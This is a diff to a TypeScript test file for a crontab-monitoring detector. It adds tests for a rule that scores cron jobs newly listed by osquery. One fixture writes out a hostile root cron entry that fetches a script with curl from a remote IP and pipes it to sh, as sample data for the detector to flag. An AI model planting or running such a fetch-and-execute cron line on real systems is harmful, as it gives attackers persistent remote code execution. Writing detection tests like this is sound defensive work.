@@ -2,7 +2,7 @@ import { describe, expect, test } from 'vitest';
 import { hours, seconds } from '../../src/core/duration.ts';
 import type { ProcessEvent } from '../../src/core/event.ts';
 import { appended, scoresOf } from './cron-alerts.ts';
-import { auditedFile, crontabLine, started } from './linux-events.ts';
+import { auditedFile, crontabLine, listedJob, started } from './linux-events.ts';
 
 const scores = (...args: Parameters<typeof appended>) => scoresOf(appended(...args));
 const line = (verb: string, atMs = 0, more = {}) =>
@@ -107,6 +107,41 @@ describe('X3, an editor of crontab', () => {
   test('can be switched off', () => {
     const [alert] = appended([begun(-1), saved], { extended: { x3: false } });
     expect([alert?.score, alert?.details['isEdited']]).toEqual([40, undefined]);
+  });
+});
+
+describe('X4, a job that osquery lists anew', () => {
+  test('is told with its line, and what it is worth', () => {
+    const [alert] = appended([
+      listedJob('added', { command: 'root curl http://203.0.113.9/k|sh' }),
+    ]);
+    expect(alert).toMatchObject({
+      score: 95,
+      tier: 'extended',
+      details: { cronEntry: '* * * * * root curl http://203.0.113.9/k|sh', fileOp: 'write' },
+    });
+    const spool = { path: '/var/spool/cron/crontabs/alice', minute: '5', command: '/bin/true' };
+    expect(scores([listedJob('added', spool)])).toEqual([40]);
+  });
+
+  test('is one alert with the file within ten seconds, and none of a new file', () => {
+    const path = '/etc/crontab';
+    const write = (atMs: number) => auditedFile(path, { op: 'write', access: 'append', atMs });
+    const [alert, ...more] = appended([write(-seconds(10)), listedJob('added')]);
+    expect([alert?.details['fileOp'], alert?.details['cronEntry'], more]).toEqual([
+      'append',
+      '* * * * * root /tmp/x',
+      [],
+    ]);
+    expect(appended([write(-seconds(10) - 1), listedJob('added')])).toHaveLength(2);
+    const job = '/etc/cron.d/job';
+    expect(appended([auditedFile(job), listedJob('added', { path: job }, 1)])).toEqual([]);
+  });
+
+  test('is not told of the first run, of rows that went, or when switched off', () => {
+    expect(scores([listedJob('added', { counter: '0' })])).toEqual([]);
+    expect(scores([listedJob('removed')])).toEqual([]);
+    expect(scores([listedJob('added')], { extended: { x4: false } })).toEqual([]);
   });
 });
 
